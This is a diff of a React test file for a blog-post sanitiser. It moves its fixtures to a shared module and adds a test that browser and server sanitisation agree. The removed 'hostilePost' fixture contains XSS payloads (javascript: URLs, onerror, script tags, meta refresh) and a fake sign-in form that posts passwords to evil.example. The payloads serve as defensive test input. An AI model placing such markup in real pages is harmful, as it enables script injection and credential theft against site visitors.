@@ -1,34 +1,6 @@
 import { render } from '@testing-library/react';
-import { PostContent } from './PostContent';
-
-const hostilePost = `
-  <h2>Quarterly update</h2>
-  <p style="background:url(javascript:alert(1))">Please sign in again to keep reading.</p>
-  <form action="https://evil.example/steal" method="post">
-    <label>Password <input name="password" type="password"></label>
-    <select name="bank"><option>Yours</option></select>
-    <textarea name="notes"></textarea>
-    <button formaction="https://evil.example/other">Continue</button>
-  </form>
-  <a href="javascript:alert(1)">a link that runs code</a>
-  <img src="x.png" alt="chart" onerror="alert(1)">
-  <iframe src="https://evil.example/frame"></iframe>
-  <object data="https://evil.example/flash"></object>
-  <svg><script>alert(1)</script></svg>
-  <style>body { display: none }</style>
-  <script>alert(1)</script>
-  <meta http-equiv="refresh" content="0;url=https://evil.example">
-`;
-
-const articlePost = `
-  <h2 id="why">Why private AI</h2>
-  <p>Read <a href="https://veritenant.example/trust" title="Trust">our trust center</a>, <em>now</em>.</p>
-  <ul><li>one</li><li><strong>two</strong></li></ul>
-  <blockquote cite="https://example.com">Quoted</blockquote>
-  <pre><code>npm start</code></pre>
-  <table><thead><tr><th scope="col">Plan</th></tr></thead><tbody><tr><td>Enterprise</td></tr></tbody></table>
-  <figure><img src="/chart.png" alt="Chart" width="640" height="320"><figcaption>Figure 1</figcaption></figure>
-`;
+import { articlePost, hostilePost, sanitised } from '../testing/post-html';
+import { PostContent, sanitizePostHtml } from './PostContent';
 
 describe('PostContent', () => {
   test('a hostile post loses its form, controls, styles, frames and scripts, and keeps its text', () => {
@@ -54,6 +26,13 @@ describe('PostContent', () => {
     expect(container.querySelector('th')).toHaveAttribute('scope', 'col');
     expect(container.querySelector('img')).toMatchObject({ alt: 'Chart', width: 640, height: 320 });
     expect(container.querySelector('figcaption')).toHaveTextContent('Figure 1');
+  });
+
+  test.each([
+    ['hostile', hostilePost, sanitised.hostilePost],
+    ['ordinary', articlePost, sanitised.articlePost],
+  ])('an %s post is sanitised in the browser into the HTML the server makes of it', (_name, post, expected) => {
+    expect(sanitizePostHtml(post)).toBe(expected);
   });
 
   test('content that is not a string is shown serialised', () => {
